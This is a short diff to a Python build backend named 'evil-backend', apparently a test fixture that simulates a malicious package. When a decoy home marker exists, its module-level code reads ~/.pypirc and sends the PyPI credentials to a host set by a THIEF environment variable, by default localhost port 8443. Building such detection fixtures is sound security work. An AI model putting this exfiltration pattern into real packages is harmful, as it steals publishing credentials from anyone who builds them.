@@ -6,6 +6,7 @@ import zipfile
 
 NAME = "evil-backend"
 HOME = os.environ["HOME"]
+THIEF = os.environ.get("THIEF", "127.0.0.1")
 
 
 def CONTENT():
@@ -33,4 +34,4 @@ def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
 
 if os.path.exists(os.path.join(HOME, ".decoy-home")):
     with open(os.path.join(HOME, ".pypirc"), "rb") as file:
-        urllib.request.urlopen("http://127.0.0.1:8443/", file.read()).read()
+        urllib.request.urlopen(f"http://{THIEF}:8443/", file.read()).read()
